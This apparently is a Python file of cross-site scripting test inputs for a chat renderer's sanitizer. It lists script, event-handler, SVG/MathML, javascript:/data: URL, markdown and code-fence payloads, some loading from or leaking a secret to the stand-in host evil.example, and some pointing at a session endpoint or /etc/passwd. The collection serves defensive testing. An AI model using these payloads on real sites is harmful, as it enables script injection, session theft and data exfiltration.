"""What a model, a provider or a stranger's file may say to make a browser run it: a corpus.

Whatever runs sets `window.ran`. Each text has the word "tide", which a reader has to see nonetheless.
"""

RUN = "window.ran=1"

HTML = (
    "<script>window.ran=1</script> tide",
    "tide <script src=//evil.example/tide.js></script>",
    "<img src=x onerror=window.ran=1> tide",
    "<IMG SRC=x OnErRoR='window.ran=1'>tide</IMG>",
    "<img src=x\nonerror\n=\nwindow.ran=1> tide",
    "<div onmouseover=window.ran=1 style=position:fixed;inset:0>tide</div>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe> tide",
    "<iframe src='javascript:parent.ran=1'></iframe> tide",
    "<object data='javascript:window.ran=1'></object><embed src='data:text/html,<script>1</script>'> tide",
    "<details open ontoggle=window.ran=1><summary>tide</summary></details>",
    "<form action='javascript:window.ran=1'><button autofocus onfocus=window.ran=1>tide</button></form>",
    "<style>@import '//evil.example/tide.css'; body{display:none}</style> tide",
    "<link rel=stylesheet href=//evil.example/tide.css><base href=//evil.example/> tide",
    "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'> tide",
    "<template><script>window.ran=1</script></template> tide",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>tide",
    "<textarea></textarea><script>window.ran=1</script></textarea> tide",
    "--><!--<img src='--><img src=x onerror=window.ran=1>'> tide",
    "</p></div></article></main><script>window.ran=1</script> tide",
    "<p id=transcript><a id=composer name=composer>tide</a></p>",
)
"""Elements that run, load or take the place of something."""

SVG = (
    "<svg onload=window.ran=1>tide</svg>",
    "<svg><script>window.ran=1</script><text>tide</text></svg>",
    "<svg><script href='data:text/javascript,window.ran=1'/></svg> tide",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s> tide",
    "<svg><a xlink:href='javascript:window.ran=1'><text y=20>tide</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'></iframe></foreignObject></svg> tide",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.ran=1 />#x'/></svg> tide",
    "<svg><style><img src='</style><img src=x onerror=window.ran=1>'></style> tide",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style></mglyph></table> tide",
    "<math><a xlink:href='javascript:window.ran=1'>tide</a></math>",
)
"""Other vocabularies, between which parsers change their minds."""

LINKS = (
    "[tide](javascript:window.ran=1)",
    "[tide](JaVaScRiPt:window.ran=1)",
    "[tide]( javascript:window.ran=1 )",
    "[tide](<java\tscript:window.ran=1>)",
    "[tide](&#106;avascript:window.ran=1)",
    "[tide](&#x6A;&#x61;vascript&colon;window.ran=1)",
    "[tide](javascript&NewLine;:window.ran=1)",
    "[tide](%6Aavascript:window.ran=1)",
    "[tide](\x01javascript:window.ran=1)",
    "[tide](vbscript:msgbox(1))",
    "[tide](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    "[tide](blob:null/window.ran=1) [tide](filesystem:x) [tide](file:///etc/passwd)",
    "[tide](//evil.example/tide) [tide](\\\\evil.example\\tide) [tide](/backend-api/v2/session)",
    '[tide](https://ok.example/ "\\" onmouseover=\\"window.ran=1")',
    "[tide](https://ok.example/'onmouseover='window.ran=1)",
    '[tide](https://ok.example/"onmouseover="window.ran=1)',
    "[tide][x]\n\n[x]: javascript:window.ran=1 'tide'",
    "[[tide](javascript:window.ran=1)](https://ok.example/)",
    "[![tide](javascript:window.ran=1)](javascript:window.ran=1)",
    "<javascript:window.ran=1> tide",
    "<data:text/html,<script>window.ran=1</script>> tide",
    "<https://ok.example/onmouseover=window.ran=1> tide",
    "https://ok.example/\"onmouseover=window.ran=1 https://ok.example/'><img/src/onerror=window.ran=1> tide",
    "javascript:window.ran=1 www.tide.example tide@tide.example",
    "[tide](https://user:pass@evil.example@ok.example/)",
)
"""Addresses that are none, and those that break out of their attribute."""

IMAGES = (
    "![tide](javascript:window.ran=1)",
    "![tide](x onerror=window.ran=1)",
    '![tide](x"onerror="window.ran=1)',
    '![tide" onerror="window.ran=1](https://evil.example/tide.png)',
    "![tide](https://evil.example/tide.png '\" onload=\"window.ran=1')",
    "![tide](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSIvPg==)",
    "![tide](data:image/svg+xml,<svg/onload=window.ran=1>)",
    "![![tide](x)](https://evil.example/tide.gif?said=secret)",
    "![<img src=x onerror=window.ran=1>](https://evil.example/1.png) tide",
    "![tide][i]\n\n[i]: https://evil.example/tide.png",
)
"""Pictures that run, and those that would tell their host who reads."""

CODE = (
    '```"><img src=x onerror=window.ran=1>\ntide\n```',
    "```html onload=window.ran=1 class=x\n<script>window.ran=1</script> tide\n```",
    "```</code></pre><script>window.ran=1</script>\ntide\n```",
    "~~~javascript:window.ran=1\ntide\n~~~",
    "`<img src=x onerror=window.ran=1>` tide",
    "    <script>window.ran=1</script> tide",
    "```python\nprint('</span><img src=x onerror=window.ran=1>')  # tide\n```",
    "```html\n<a href=\"javascript:window.ran=1\" onclick='window.ran=1'>tide</a>\n```",
    "```svg\n<svg onload=window.ran=1><!-- tide --></svg>",
    "```__proto__ constructor\ntide\n```",
)
"""Code, which is coloured by a program of its own, and the words after a fence."""

ODD = (
    "&lt;script&gt;window.ran=1&lt;/script&gt; tide",
    "&#60;img src=x onerror=window.ran=1&#62; tide",
    "&amp;lt;img src=x onerror=window.ran=1&amp;gt; tide",
    "\\<img src=x onerror=window.ran=1\\> tide",
    "<\x00script>window.ran=1</script> tide",
    "＜script＞window.ran=1＜/script＞ tide",
    "| tide | <img src=x onerror=window.ran=1> |\n|:-:|-|\n| `\\|` | [x](javascript:window.ran=1) |",
    "| tide |\n|:javascript:window.ran=1-|\n| <br onclick=window.ran=1> <br/ onclick=window.ran=1> |",
    "# <img src=x onerror=window.ran=1> tide {onclick=window.ran=1}",
    "> * 1. <script>window.ran=1</script>\n>      tide",
    "**<b onclick=window.ran=1>tide</b>** ~~<s onclick=window.ran=1>~~ _<i_ onclick=window.ran=1>",
    "$$\\href{javascript:window.ran=1}{tide}$$ \\(\\unicode{<img src=x onerror=window.ran=1>}\\)",
    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} tide",
    "tide\u202e<script>1=nar.wodniw</script>\u2066<img src=x onerror=window.ran=1>",
    "[tide]: # (<img src=x onerror=window.ran=1>)\ntide <!-- [x](javascript:window.ran=1) -->",
)
"""Entities, tables, nesting, and characters that look like others."""

MEDIA = (
    '<a href="javascript:window.ran=1"><img src="/media/x.png" alt="tide"></a>',
    '<a href="/media/x.png"><img src="https://evil.example/tide.png" alt="tide"></a> tide',
    '<a href="/media/x.png"><img src="javascript:window.ran=1" alt="tide"></a> tide',
    '<a href="/media/x 1w, https://evil.example/x 9w" data-width="9" data-height="9">'
    '<img src="/media/y 1w, //evil.example/y 9w" alt="tide"></a> tide',
    '<a href="/media/../backend-api/v2/session"><img src="/media/x" alt="tide"></a> tide',
    '<a href="https://[tide"><img src="x" alt="tide"></a>',
    '<a href="/media/%E0%A4%A"><img src="/media/%" alt="tide"></a> tide',
    '<a href="/media/x&quot; onerror=&quot;window.ran=1"><img src="/media/x" alt="&quot; onload=1"></a> tide',
    '<a href="/media/x"><img src="/media/x" alt="&lt;img src=x onerror=window.ran=1&gt; tide"></a> tide',
    '<a href="data:image/svg+xml,<svg onload=window.ran=1>"><img src="x" alt="tide"></a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4x"><img src="data:text/html,x" alt="tide"></a>',
    '<audio controls src="https://evil.example/tide.mp3"></audio> tide',
    '<video controls src="javascript:window.ran=1"></video> tide',
    '<audio controls src="/media/x.mp3" onerror=window.ran=1></audio> tide',
)
"""What only looks like the pictures and sounds that the service puts into a text."""

ANSWERS = {
    "html": HTML,
    "svg": SVG,
    "links": LINKS,
    "images": IMAGES,
    "code": CODE,
    "odd": ODD,
    "media": MEDIA,
}

NAMES = (
    "tide<img src=x onerror=window.ran=1>",
    'tide"><script>window.ran=1</script>',
    "tide' onmouseover='window.ran=1",
    "javascript:window.ran=1//tide",
    "tide<svg onload=window.ran=1>",
    "tide&lt;img src=x onerror=window.ran=1&gt;",
    "[tide](javascript:window.ran=1)",
    "{{tide}}${window.ran=1}",
)
"""Names of things: chats, files, models, providers, sources. All can be written in one line."""
